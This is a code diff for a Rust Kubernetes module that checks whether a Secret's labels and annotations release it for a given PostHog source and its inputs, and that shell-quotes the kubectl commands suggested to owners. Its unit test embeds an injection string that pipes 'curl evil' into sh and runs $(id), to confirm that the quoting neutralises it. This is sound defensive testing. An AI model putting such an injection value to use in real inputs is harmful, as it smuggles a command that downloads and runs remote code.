@@ -1,33 +1,41 @@
 //! For what a Secret may be used: only for what its owner released it, by label and annotation. So an editor of policies
 //! cannot send a Secret of the namespace to another host, project or purpose.
 
+use std::collections::BTreeSet;
+
 use k8s_openapi::{api::core::v1::Secret, apimachinery::pkg::apis::meta::v1::ObjectMeta};
 use secrecy::SecretString;
 
 use crate::{
     api::{
         conditions::Reason,
-        names::{PROJECT_ANNOTATION, USE_API_KEY, USE_LABEL, USE_NOTIFICATION, USE_SOURCE},
-        policy::SecretKeyRef,
+        names::{
+            INPUTS_ANNOTATION, PROJECT_ANNOTATION, SOURCE_ANNOTATION, USE_API_KEY, USE_LABEL,
+            USE_NOTIFICATION, USE_SOURCE,
+        },
+        policy::{CredentialUse, SecretKeyRef, SourceRef},
     },
+    posthog::inputs::is_credential,
     report::kubernetes::SecretRefused,
 };
 
 /// What a Secret is wanted for.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
-pub enum Use {
+pub enum Use<'a> {
     /// Its API key of `PostHog`.
     ApiKey,
-    /// Credentials of sources of a project.
+    /// Credentials of a source of a project.
     Source {
         /// The project.
         project_id: i64,
+        /// The source and its inputs.
+        wanted: &'a CredentialUse,
     },
     /// The URL of a receiver of notifications, or the key for signatures to it.
     Notification,
 }
 
-impl Use {
+impl Use<'_> {
     const fn label(self) -> &'static str {
         match self {
             Self::ApiKey => USE_API_KEY,
@@ -66,25 +74,21 @@ impl Use {
             message,
         };
         let (SecretKeyRef { name, key }, label) = (wanted, self.label());
-        let said = |map: &Option<std::collections::BTreeMap<String, String>>, key| {
-            map.as_ref().and_then(|map| map.get(key).cloned())
-        };
-        let used_for = said(&meta.labels, USE_LABEL);
-        if used_for.as_deref() != Some(label) {
+        let used_for = meta
+            .labels
+            .as_ref()
+            .and_then(|labels| labels.get(USE_LABEL));
+        if used_for.map(String::as_str) != Some(label) {
             return Err(refused(format!(
                 "Secret {name} (key {key:?}) has not been released for this use: its owner runs kubectl label secret {name} --namespace {namespace} --overwrite {USE_LABEL}={label}"
             )));
         }
-        let Self::Source { project_id } = self else {
-            return Ok(());
-        };
-        let project = said(&meta.annotations, PROJECT_ANNOTATION);
-        if project.as_deref() != Some(project_id.to_string().as_str()) {
-            return Err(refused(format!(
-                "Secret {name} (key {key:?}) has not been released for project {project_id}: its owner runs kubectl annotate secret {name} --namespace {namespace} --overwrite {PROJECT_ANNOTATION}={project_id}"
-            )));
+        match self {
+            Self::ApiKey | Self::Notification => Ok(()),
+            Self::Source { project_id, wanted } => {
+                allows(meta, namespace, project_id, wanted).map_err(refused)
+            }
         }
-        Ok(())
     }
 
     /// A Secret that is not there.
@@ -94,9 +98,10 @@ impl Use {
         let (label, holds) = (self.label(), self.holds());
         let project = match self {
             Self::ApiKey | Self::Notification => String::new(),
-            Self::Source { project_id } => {
-                format!(" and the annotation {PROJECT_ANNOTATION}={project_id}")
-            }
+            Self::Source { project_id, wanted } => format!(
+                " and the annotations {}",
+                annotations(project_id, wanted, &wanted.inputs)
+            ),
         };
         SecretRefused {
             reason: Reason::SecretMissing,
@@ -107,12 +112,68 @@ impl Use {
     }
 }
 
+/// Whether a Secret's annotations allow a use; if not, why, with the command by which its owner allows it.
+fn allows(
+    meta: &ObjectMeta,
+    namespace: &str,
+    project_id: i64,
+    wanted: &CredentialUse,
+) -> Result<(), String> {
+    let CredentialUse {
+        secret_ref,
+        source,
+        inputs,
+    } = wanted;
+    let SecretKeyRef { name, key } = secret_ref;
+    let said = |key| meta.annotations.as_ref()?.get(key).map(String::as_str);
+    let for_project = said(PROJECT_ANNOTATION) == Some(project_id.to_string().as_str());
+    let for_source = said(SOURCE_ANNOTATION)
+        .and_then(SourceRef::parse)
+        .is_some_and(|said| said.is(source));
+    let listed = said(INPUTS_ANNOTATION).unwrap_or_default().split(',');
+    let allowed: BTreeSet<String> = listed.map(|input| input.trim().to_owned()).collect();
+    let lacks = inputs.iter().find(|input| !allowed.contains(*input));
+    let is_not_for = match lacks {
+        _ if !for_project => format!("project {project_id}"),
+        _ if !for_source => format!("the source {source} of project {project_id}"),
+        Some(input) => format!("the input {input} of the source {source}"),
+        None => return Ok(()),
+    };
+    // What the owner allowed for this source stays allowed.
+    let known = allowed
+        .into_iter()
+        .filter(|input| for_project && for_source && is_credential(input));
+    let inputs: BTreeSet<String> = known.chain(inputs.iter().cloned()).collect();
+    let inputs: Vec<String> = inputs.into_iter().collect();
+    let annotations = annotations(project_id, wanted, &inputs);
+    Err(format!(
+        "Secret {name} (key {key:?}) is not for {is_not_for}: if it is to be sent there, its owner runs kubectl annotate secret {name} --namespace {namespace} --overwrite {annotations}"
+    ))
+}
+
+/// The annotations that allow a use, as a shell takes them.
+fn annotations(project_id: i64, wanted: &CredentialUse, inputs: &[String]) -> String {
+    let source = quoted(&format!("{SOURCE_ANNOTATION}={}", wanted.source));
+    let inputs = quoted(&format!("{INPUTS_ANNOTATION}={}", inputs.join(",")));
+    format!("{PROJECT_ANNOTATION}={project_id} {source} {inputs}")
+}
+
+/// A word for a shell. Whoever edits a policy chooses the names in it, and the owner of a Secret pastes them.
+fn quoted(word: &str) -> String {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || "._-/=,".contains(c);
+    if word.chars().all(is_plain) {
+        word.to_owned()
+    } else {
+        format!("'{}'", word.replace('\'', r"'\''"))
+    }
+}
+
 /// The value in a Secret, as far as Kubernetes can tell; whether it has the shape of one is told later.
 pub fn value(
     secret: Option<&Secret>,
     namespace: &str,
     wanted: &SecretKeyRef,
-    wanted_for: Use,
+    wanted_for: Use<'_>,
 ) -> Result<SecretString, SecretRefused> {
     let secret = secret.ok_or_else(|| wanted_for.missing(wanted))?;
     wanted_for.check(&secret.metadata, namespace, wanted)?;
@@ -130,4 +191,27 @@ pub fn value(
         message: format!("Key {key:?} of Secret {name} is not text (UTF-8)"),
     })?;
     Ok(SecretString::from(text.to_owned()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_command_that_an_owner_pastes_runs_nothing_else() {
+        let wanted = CredentialUse {
+            secret_ref: SecretKeyRef {
+                name: "db".into(),
+                key: "password".into(),
+            },
+            source: SourceRef {
+                prefix: Some("a'; curl evil | sh; '$(id)".into()),
+                ..SourceRef::default()
+            },
+            inputs: vec!["password".into()],
+        };
+        let said = allows(&ObjectMeta::default(), "n", 1, &wanted).unwrap_err();
+        let word = r"'warehousesync.dev/source=prefix=a'\''; curl evil | sh; '\''$(id)' warehousesync.dev/inputs=password";
+        assert!(said.ends_with(word), "{said}");
+    }
 }
